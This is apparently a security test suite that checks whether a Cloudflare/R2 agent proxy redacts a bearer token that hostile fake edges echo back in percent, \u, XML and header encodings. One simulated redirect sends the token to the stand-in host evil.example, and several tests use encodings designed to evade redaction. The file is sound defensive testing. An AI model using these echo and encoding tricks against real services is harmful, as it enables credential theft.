import { createHash } from 'node:crypto';
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  jsEscape as u,
  secretDecodings as decodings,
  startFakeCloudflare,
  startFakeR2,
} from '@warden/testing';
import type { FakeCloudflare, FakeR2 } from '@warden/testing';
import { SPEC_PATH } from './test-support/paths.ts';
import { startEdgeProxy } from './test-support/edge-proxy.ts';
import { r2User } from './test-support/r2-user.ts';
import { startTestApp } from './test-support/test-app.ts';
import type { TestApp } from './test-support/test-app.ts';

/**
 * attack23a: README "every answer is scrubbed of the credential it was sent with (as is, Base64,
 * hex, percent-encoded in any spelling, any JSON spelling) in its body and in the headers the
 * trail keeps (`cf-ray`, `ratelimit`), before anything reads it", end to end: a hostile
 * "Cloudflare" (an edge proxy in front of the fake API) echoes the bearer token in spellings
 * mixing JSON and percent escapes, and R2 answers (objects stored by someone else, and a hostile
 * edge in front of the fake R2) carry the token or its derived R2 secret. Places checked: the
 * tool result (REST execute), the audit events API, the NDJSON / OCSF / CEF exports, the log
 * lines. Each test asserts the secure behaviour, so it FAILS on a bug; HELD ones passed when
 * written.
 */
const pctAll = (s: string, lower = false) =>
  [...Buffer.from(s)]
    .map((b) => `%${b.toString(16).padStart(2, '0')[lower ? 'toLowerCase' : 'toUpperCase']()}`)
    .join('');
const xmlRef = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
describe('attack23a credential echo: JSON and percent escapes together, and R2 answers', () => {
  let cf: FakeCloudflare;
  let r2: FakeR2;
  let t: TestApp;
  let apiEdge: Awaited<ReturnType<typeof startEdgeProxy>>;
  let r2Edge: Awaited<ReturnType<typeof startEdgeProxy>>;
  let apiMode = '';
  /** What the hostile R2 edge echoes (the test knows the token; R2 requests carry only a signature). */
  let r2Echo = '';

  beforeAll(async () => {
    cf = await startFakeCloudflare({ specPath: SPEC_PATH });
    r2 = await startFakeR2({ state: cf.state });
    apiEdge = await startEdgeProxy(cf.url, (req, res) => {
      if (!req.url?.includes('/echo-probe')) return false;
      req.resume();
      const token = String(req.headers.authorization ?? '').replace(/^Bearer /, '');
      if (apiMode === 'percent-in-json') {
        // JSON value "bad header %5A%78…": the token percent-encoded, each "%" spelled \u0025.
        res.writeHead(400, { 'content-type': 'application/json' });
        res.end(
          `{"success":false,"errors":[{"code":6003,"message":"bad header ${pctAll(token).replaceAll('%', '\\u0025')}"}]}`,
        );
      } else if (apiMode === 'redirect') {
        // A redirect (never followed) whose Location and HTML body carry the token.
        res.writeHead(302, {
          location: `https://evil.example/?t=${token}`,
          'content-type': 'text/html',
          'cf-ray': `ray-${pctAll(token, true)}`,
        });
        res.end(
          `<a href="https://evil.example/?t=${pctAll(token, true)}&u=${[...token].map(u).join('')}">moved</a>`,
        );
      } else {
        // Headers the trail keeps, percent-encoded (lower and upper case); the body mixes raw,
        // %XX and \uXXXX runs inside one token, with a literal "%" in the body.
        const half = token.length >> 1;
        res.writeHead(400, {
          'content-type': 'application/json',
          'cf-ray': `ray-${pctAll(token, true)}`,
          ratelimit: `"default";r=${pctAll(token)}`,
        });
        res.end(
          `{"success":false,"errors":[{"code":6003,"message":"Authorization: Bearer ${token.slice(0, 5)}${pctAll(token.slice(5, half))}${[...token.slice(half)].map(u).join('')}"}]}`,
        );
      }
      return true;
    });
    r2Edge = await startEdgeProxy(r2.url, (req, res) => {
      const url = req.url ?? '';
      if (url.includes('/media/hdr-echo.txt')) {
        // Forwarded to the fake R2 (signature checked there), its answer given back with the
        // secret in headers: cf-ray (the trail keeps it), etag and content-type (the result shows them).
        const target = new URL(r2.url);
        const out = http.request(
          { host: target.hostname, port: target.port, method: req.method, path: url, headers: req.headers },
          (up) => {
            res.writeHead(up.statusCode ?? 502, {
              ...up.headers,
              'cf-ray': `ray-${r2Echo}`,
              etag: `"${r2Echo}"`,
              'content-type': `text/plain; echo=${r2Echo}`,
            });
            up.pipe(res);
          },
        );
        req.pipe(out);
        return true;
      }
      if (url.includes('/media/xml-error.txt')) {
        req.resume();
        res.writeHead(500, { 'content-type': 'application/xml' });
        res.end(
          `<?xml version="1.0" encoding="UTF-8"?><Error><Code>InternalError</Code><Message>bad credential ${xmlRef(r2Echo)}</Message></Error>`,
        );
        return true;
      }
      if (url.includes('prefix=xmlkey')) {
        req.resume();
        res.writeHead(200, { 'content-type': 'application/xml' });
        res.end(
          `<?xml version="1.0" encoding="UTF-8"?><ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Name>media</Name><Prefix>xmlkey</Prefix><KeyCount>1</KeyCount><MaxKeys>1000</MaxKeys><IsTruncated>false</IsTruncated><Contents><Key>xmlkey/${xmlRef(r2Echo)}</Key><Size>1</Size><ETag>"e"</ETag><LastModified>2026-01-01T00:00:00.000Z</LastModified></Contents></ListBucketResult>`,
        );
        return true;
      }
      return false;
    });
    t = await startTestApp({
      CLOUDFLARE_API_BASE: apiEdge.base,
      CLOUDFLARE_R2_ENDPOINT: `${new URL(r2Edge.base).origin}/{account_id}/{jurisdiction}`,
    });
  });
  afterAll(async () => {
    await t?.close();
    await r2Edge?.close();
    await apiEdge?.close();
    await r2?.close();
    await cf?.close();
  });

  /** A tenant with one connected R2 user (`name`): runs `code`, returns where each secret showed. */
  async function run(name: string, code: (accountId: string, token: string, derived: string) => string) {
    const { account, token } = r2User(cf, r2, name);
    const derived = createHash('sha256').update(token.value).digest('hex');
    t.secrets.add(derived);
    r2Echo = token.value;
    const tenant = await t.createTenant(name);
    await t.connect(tenant.apiKey, name, token.value);
    const res = await t.execute(tenant.apiKey, name, code(account.id, token.value, derived));
    expect(res.statusCode, res.body).toBe(200);
    const places = await t.outputsOf(tenant.apiKey, res);
    const where = (secret: string) =>
      Object.entries(places)
        .filter(([, text]) => decodings(text).some((d) => d.includes(secret)))
        .map(([k]) => k);
    /** Where `secret` showed: how often, and the text around its first (decoded) occurrence. */
    const seen = (secret: string) =>
      Object.fromEntries(
        Object.entries(places).flatMap(([k, text]) => {
          const d = decodings(text).find((x) => x.includes(secret));
          if (d === undefined) return [];
          const at = d.indexOf(secret);
          return [
            [k, `${d.split(secret).length - 1}x: ${d.slice(Math.max(0, at - 60), at + secret.length + 20)}`],
          ];
        }),
      );
    return { account, token: token.value, derived, where, seen, result: res.json() as { data: unknown } };
  }

  /** Agent code that asks the hostile edge's probe path of a new zone of the account. */
  const probe = (accountId: string, name: string) => {
    const zoneId = cf.state.createZone({ accountId, name }).id;
    return `async () => { try { return await cloudflare.request({ method: 'GET', path: '/zones/${zoneId}/echo-probe' }); } catch (e) { return { code: e.code, message: e.message }; } }`;
  };

  describe('the API, a hostile edge echoing the token', () => {
    it('keeps a token echoed percent-encoded in a JSON body whose every "%" is spelled \\u0025 out of the result, the trail and its exports', async () => {
      apiMode = 'percent-in-json';
      const { token, where, seen } = await run('pctjson', (accountId) => probe(accountId, 'pctjson.example'));
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
    });

    it('HELD: keeps a token echoed percent-encoded in cf-ray / ratelimit, and split over raw, %XX and \\u runs in the body, out of every place', async () => {
      apiMode = 'headers-and-mixed';
      const { token, where, seen } = await run('pcthdr', (accountId) => probe(accountId, 'pcthdr.example'));
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
    });

    it('HELD: a redirect (not followed) with the token in Location, cf-ray and an HTML body (%xx and \\u) leaks it nowhere', async () => {
      apiMode = 'redirect';
      const { token, where, seen } = await run('redir', (accountId) => probe(accountId, 'redir.example'));
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
    });
  });

  describe('R2 object bodies (stored by someone else, read by the agent)', () => {
    it('keeps the token and its derived R2 secret, \\u-escaped in a JSON object, out of r2.get (as: json and text)', async () => {
      const { token, derived, where, seen } = await run('r2json', (accountId, token, derived) => {
        const spell = (s: string) => [...s].map(u).join('');
        r2.putObject(
          accountId,
          'media',
          'echo.json',
          `{"log":"Authorization: Bearer ${spell(token)}","r2":"${spell(derived)}"}`,
          { contentType: 'application/json' },
        );
        return `async () => {
          const j = await r2.get({ bucket: 'media', key: 'echo.json', accountId: '${accountId}', as: 'json' });
          const t = await r2.get({ bucket: 'media', key: 'echo.json', accountId: '${accountId}', as: 'text' });
          return { json: j.body, text: t.body };
        }`;
      });
      expect(
        { token: where(token), derived: where(derived) },
        JSON.stringify([seen(token), seen(derived)], null, 1),
      ).toEqual({ token: [], derived: [] });
    });

    it('keeps the token percent-encoded (every byte %XX, upper- and lower-case hex) out of r2.get', async () => {
      const { token, where, seen } = await run('r2pct', (accountId, token) => {
        r2.putObject(
          accountId,
          'media',
          'echo.txt',
          `GET /?a=${pctAll(token)}\nGET /?b=${pctAll(token, true)}\n`,
        );
        return `async () => (await r2.get({ bucket: 'media', key: 'echo.txt', accountId: '${accountId}' })).body`;
      });
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
    });
  });

  describe('R2 answers from a hostile edge', () => {
    it('keeps the token out of the trail when R2 echoes it in cf-ray, and out of the result when in etag / content-type', async () => {
      const { token, where, seen } = await run('r2hdr', (accountId) => {
        r2.putObject(accountId, 'media', 'hdr-echo.txt', 'hello');
        return `async () => {
          const h = await r2.head({ bucket: 'media', key: 'hdr-echo.txt', accountId: '${accountId}' });
          const g = await r2.get({ bucket: 'media', key: 'hdr-echo.txt', accountId: '${accountId}' });
          return { h, g };
        }`;
      });
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
    });

    it('keeps the token out of an R2 error message and a listed key when R2 spells it with XML character references', async () => {
      const { token, where, seen } = await run(
        'r2xml',
        (accountId) => `async () => {
          let error = null;
          try { await r2.get({ bucket: 'media', key: 'xml-error.txt', accountId: '${accountId}' }); }
          catch (e) { error = e.code + ': ' + e.message; }
          const list = await r2.list({ bucket: 'media', prefix: 'xmlkey', accountId: '${accountId}' });
          return { error, keys: list.objects.map((o) => o.key) };
        }`,
      );
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
    });

    it('HELD: the token as is in an R2 object is redacted', async () => {
      const { token, where, seen, result } = await run('r2plain', (accountId, token) => {
        r2.putObject(accountId, 'media', 'plain.txt', `Bearer ${token}`);
        return `async () => (await r2.get({ bucket: 'media', key: 'plain.txt', accountId: '${accountId}' })).body`;
      });
      expect(where(token), JSON.stringify(seen(token), null, 1)).toEqual([]);
      expect(result.data).toBe('Bearer [REDACTED]');
    });
  });
});
